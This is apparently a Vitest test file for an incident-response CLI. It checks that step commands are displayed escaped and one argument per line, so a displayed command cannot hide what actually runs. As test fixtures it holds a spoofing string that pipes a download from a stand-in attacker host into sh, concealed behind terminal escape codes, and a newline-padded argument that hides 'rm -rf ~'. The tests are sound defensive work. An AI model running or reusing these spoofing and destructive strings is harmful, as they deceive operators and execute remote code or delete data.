// Issue 7, part 1: a command shown is the command run. Each test here failed before the fix.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { fold, openIncident, type IncidentEvent } from '../../../src/core/engine/index.js';
import type { Command, Plan } from '../../../src/core/plan/types.js';
import type { CommandResult, RunOptions } from '../../../src/core/ports.js';
import { plainStyler } from '../../../src/core/report/styler.js';
import { renderTimelineText } from '../../../src/core/report/incident/timeline-text.js';
import { walk } from '../../../src/core/walkthrough/walk.js';
import { BufferScreen, FakeClock, FakeInterrupts, FakeRunner, MemoryEventLog, ScriptedPrompter, fakeWorkdir, type Answer } from '../../helpers/fakes.js';
import { hostileStrings, rawUnsafe } from '../../helpers/hostile-strings.js';

const base = parse(readFileSync(join(import.meta.dirname, '../../fixtures/plans/walk-plan.yaml'), 'utf8')) as Plan;
const start = new Date('2026-03-02T08:00:00.000Z');

// What the issue saw: the screen showed a harmless ping while sh -c ran something else.
const SPOOF = 'curl -s https://evil.example/x | sh\x1b[2K\rCommand: ping -c 1 example.org\x1b[8m';

function setup(run: Command, answers: Answer[], runner = new FakeRunner()) {
  const plan: Plan = structuredClone(base);
  const triage = plan.steps[0];
  if (triage) triage.run = run;
  const plans = new Map([[plan.metadata.id, plan]]);
  const log = new MemoryEventLog<IncidentEvent>();
  log.createNow({ id: 'inc-1', title: 'Test', planId: plan.metadata.id, createdAt: start.toISOString(), plans: [] });
  log.appendAllNow('inc-1', openIncident(plans, { planId: plan.metadata.id, title: 'Test', awareness: start, at: start, actor: 'ana' }));
  const prompter = new ScriptedPrompter([...answers]);
  const interrupts = new FakeInterrupts();
  const deps = { log, prompter, screen: new BufferScreen(), clock: new FakeClock(start), runner, styler: plainStyler, formatTime: (iso: string) => iso, workdir: fakeWorkdir, interrupts };
  const events = () => log.eventsNow('inc-1').map((r) => r.event);
  return { deps, plans, events, prompter, interrupts, walk: () => walk(deps, { incidentId: 'inc-1', plans, actor: 'ana' }) };
}

const runAndContinue: Answer[] = [{ select: 'Run' }, { confirm: true }, { select: 'Continue' }, { select: 'Pause' }];

describe('running a step command', () => {
  it('shows a spoofing argument with its escapes on the step screen, in the menu and in the confirmation', async () => {
    const t = setup({ argv: ['sh', '-c', SPOOF] }, [{ select: 'Run' }, { confirm: false }, { select: 'Pause' }]);
    await t.walk();
    const screen = t.deps.screen.text;
    expect(rawUnsafe(screen)).toEqual([]);
    expect(t.prompter.offered.flatMap(rawUnsafe)).toEqual([]);
    const shown = "$'curl -s https://evil.example/x | sh\\x1b[2K\\rCommand: ping -c 1 example.org\\x1b[8m'";
    // The step screen and the confirmation: one argument per line.
    expect(screen).toContain(`Command: sh\n             -c\n             ${shown}\n`);
    expect(screen).toContain(`Command (one argument per line):\n    sh\n      -c\n      ${shown}\n`);
    // The menu entry: one line (walk clips it), starting with the real program.
    expect(t.prompter.offered.find((o) => o.startsWith('Run '))).toMatch(/^Run sh -c \$'curl -s https:\/\/evil\.example/);
  });

  it('does not let plain newlines push the real command out of view', async () => {
    const t = setup({ argv: ['ping', `example.org${'\n'.repeat(60)}; rm -rf ~`] }, [{ select: 'Run' }, { confirm: false }, { select: 'Pause' }]);
    await t.walk();
    expect(t.deps.screen.text).toContain(`ping\n      $'example.org${'\\n'.repeat(60)}; rm -rf ~'\n`);
    expect(t.deps.screen.text.split('\n').length).toBeLessThan(60);
  });

  it('shows every hostile string of the corpus escaped, wherever the command appears', async () => {
    const t = setup({ argv: ['echo', ...hostileStrings], description: hostileStrings.join(' ') }, runAndContinue, new FakeRunner({ exitCode: 0, timedOut: false, durationMs: 5, output: hostileStrings.join('\n') }));
    await t.walk();
    expect(rawUnsafe(t.deps.screen.text)).toEqual([]);
    expect(t.prompter.offered.flatMap(rawUnsafe)).toEqual([]);
    const timeline = renderTimelineText(fold(t.plans, t.events()), plainStyler, (iso) => iso);
    expect(rawUnsafe(timeline)).toEqual([]);
  });

  it('lists the working folder and the variables passed on, and hands exactly those to the runner', async () => {
    const t = setup({ argv: ['kubectl', 'get', 'pods'], env: ['KUBECONFIG'], cwd: 'evidence', timeout: 'PT30S' }, runAndContinue);
    await t.walk();
    expect(t.deps.screen.text).toContain("Working folder: /home/ana/evidence\nEnvironment: PATH, HOME, LANG, LC_*, TERM, TZ, and from the plan: KUBECONFIG\nTimeout: 30 s");
    expect(t.deps.runner.options[0]).toMatchObject({ cwd: '/home/ana/evidence', env: ['KUBECONFIG'], timeoutMs: 30_000 });
    expect(t.events().find((e) => e.type === 'command-started')).toMatchObject({ cwd: '/home/ana/evidence', env: ['KUBECONFIG'], timeoutMs: 30_000 });
  });

  it('runs in the folder the responder started in when the plan names none', async () => {
    const t = setup({ argv: ['id'] }, runAndContinue);
    await t.walk();
    expect(t.deps.screen.text).toContain('Working folder: /home/ana\nEnvironment: PATH, HOME, LANG, LC_*, TERM, TZ only');
    expect(t.deps.runner.options[0]).toMatchObject({ cwd: '/home/ana', env: [] });
  });

  it('commits command-started before the command runs', async () => {
    let lastBeforeRun: string | undefined;
    const runner = new FakeRunner(undefined, () => {
      lastBeforeRun = t.events().at(-1)?.type;
      return undefined;
    });
    const t = setup({ argv: ['id'] }, runAndContinue, runner);
    await t.walk();
    expect(lastBeforeRun).toBe('command-started');
    expect(t.events().slice(-2).map((e) => e.type)).toEqual(['command-started', 'command-run']);
  });

  it('stops the command on Ctrl+C and logs it as interrupted', async () => {
    let signal: AbortSignal | undefined;
    const runner = new FakeRunner(undefined, async (options: RunOptions): Promise<CommandResult> => {
      signal = options.signal;
      t.interrupts.interrupt(); // the responder presses Ctrl+C while it runs
      expect(options.signal?.aborted).toBe(true);
      return { exitCode: null, timedOut: false, interrupted: true, durationMs: 700, output: 'partial output' };
    });
    const t = setup({ argv: ['ping', 'example.org'] }, runAndContinue, runner);
    await t.walk();
    expect(signal?.aborted).toBe(true);
    expect(t.interrupts.listening).toBe(0); // Ctrl+C is the prompt's again once the command is done
    expect(t.events().at(-1)).toMatchObject({ type: 'command-run', interrupted: true, exitCode: null, output: 'partial output' });
    expect(t.deps.screen.text).toContain('✖ interrupted by the responder');
  });

  it('keeps the result on screen until the responder continues', async () => {
    const t = setup({ argv: ['id'] }, runAndContinue, new FakeRunner({ exitCode: 3, timedOut: false, durationMs: 2_000, output: 'line 1\nthe real error\n' }));
    await t.walk();
    expect(t.prompter.asked).toEqual(['What now?', 'Run this command now?', 'The command has finished', 'What now?']);
    expect(t.deps.screen.text).toContain('Output:\n  line 1\n  the real error\n✖ exit code 3, 2 s');
  });

  it('shows only the last lines of long output, escaped', async () => {
    const output = Array.from({ length: 50 }, (_, i) => `line ${i}\x1b]0;title\x07`).join('\n');
    const t = setup({ argv: ['id'] }, runAndContinue, new FakeRunner({ exitCode: 0, timedOut: false, durationMs: 5, output }));
    await t.walk();
    expect(t.deps.screen.text).toContain('… 30 earlier lines are in the log (crisis log show)');
    expect(t.deps.screen.text).toContain('  line 49\\x1b]0;title\\x07\n✔ exit code 0');
    expect(t.deps.screen.text).not.toContain('line 29');
  });

  it('warns on the step screen about a command whose session ended while it ran', async () => {
    const t = setup({ argv: ['ping', 'example.org'] }, [{ select: 'Pause' }]);
    t.deps.log.appendAllNow('inc-1', [{ type: 'command-started', planId: 'walk-test', stepId: 'triage', argv: ['ping', 'example.org'], cwd: '/home/ana', env: [], timeoutMs: 1000, at: start.toISOString(), actor: 'ben' }]);
    await t.walk();
    expect(t.deps.screen.text).toContain(`A command started ${start.toISOString()} by ben has no result in the log:\n    ping example.org`);
  });

  it('shows the output excerpt in the timeline (log show)', async () => {
    const t = setup({ argv: ['id'] }, runAndContinue, new FakeRunner({ exitCode: 0, timedOut: false, durationMs: 5, output: 'uid=0(root)\n' }));
    await t.walk();
    const timeline = renderTimelineText(fold(t.plans, t.events()), plainStyler, (iso) => iso);
    expect(timeline).toMatch(/Started id in \/home\/ana {2}\(ana\)\n.*Ran id: exit code 0 {2}\(ana\)\n {8}│ uid=0\(root\)\n/);
  });
});
